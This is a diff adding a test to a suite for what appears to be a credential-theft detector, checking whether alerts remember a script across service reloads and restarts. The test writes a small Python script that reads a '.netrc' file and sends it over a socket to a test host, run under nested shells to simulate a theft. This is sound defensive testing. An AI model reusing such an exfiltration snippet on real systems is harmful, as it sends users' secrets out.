@@ -23,6 +23,7 @@ import varlink
 from message_ids import MESSAGE_IDS
 from service import (BUILD, SOCKET_UNIT, UNIT, PatientThief, as_text, configure, journal, journal_entries, last_words,
                      main_pid, run, show, states, systemctl, wait_message, wait_until)
+from net import HOST_V4
 from tap import require, require_equal
 
 RUNNING, STOPPED, LISTENING = ("active", "active"), ("inactive", "inactive"), ("inactive", "active")
@@ -30,6 +31,10 @@ DIRECTORY = os.path.dirname(varlink.SOCKET)
 MEMBER_UID, STRANGER_UID = 4001, 4002
 # The next query in the queue would start a failed service within a second.
 FAILED_STARTS_MAX = 3
+OWN_SCRIPT = """
+import socket, sys
+socket.create_connection((sys.argv[2], 443)).sendall(open(sys.argv[1], "rb").read())
+"""
 CLIENT = """
 import sys
 sys.path.insert(0, sys.argv[1])
@@ -141,6 +146,38 @@ def persistent(thefts):
     require(not glob.glob("/run/log/journal/*/*.journal"), "the journal was not flushed")
     systemctl("restart", UNIT)
     require_equal(ids(), before, "after the restart")
+
+
+def own_script(thefts):
+    """A script that was seen is known after a reload and after a restart, until it is changed."""
+    path, secret = "/srv/own/fetch.py", "/srv/own/.netrc"
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    for name, text in ((secret, "a password\n"), (path, OWN_SCRIPT)):
+        with open(name, "w", encoding="ascii") as out:
+            out.write(text)
+
+    def sight():
+        before = ids_of_info()
+        # Farther below this process than its other thefts count for.
+        command = ["/usr/bin/python3", path, secret, HOST_V4]
+        for _ in range(5):
+            command = ["sh", "-c", '"$@"; exit', "sh", *command]
+        require_equal(thefts.net.run(command).returncode, 0, "the script")
+        new = wait_until(lambda: [a for a in varlink.list_alerts(severity="info") if a["id"] not in before], "a record")
+        return [(a["script_sight"], a["severity"]) for a in new]
+
+    def ids_of_info():
+        return {a["id"] for a in varlink.list_alerts(severity="info")}
+
+    require_equal(sight(), [("first", "low")], "at first")
+    systemctl("reload", UNIT)
+    require_equal(sight(), [("known", "info")], "after a reload")
+    systemctl("restart", UNIT)
+    require_equal(sight(), [("known", "info")], "after a restart")
+    require("info" not in {a["severity"] for a in varlink.list_alerts()}, "a record of severity info in the list")
+    with open(path, "a", encoding="ascii") as out:
+        out.write("#")
+    require_equal(sight(), [("first", "low")], "after a change")
 
 
 def written_by_unit():
@@ -432,6 +469,7 @@ def inside():
                lambda: systemctl("restart", UNIT))
         t.case("a crash keeps them, too", restart_keeps, thefts, kill_and_wait)
         t.case("so does a journal on disk", persistent, thefts)
+        t.case("a script that was seen is known after them", own_script, thefts)
         t.case("order, repeats and malformed entries", written_by_unit)
         t.case("more in the journal than are kept", full_ring, thefts)
         t.case("forged entries appear nowhere", forged, thefts)
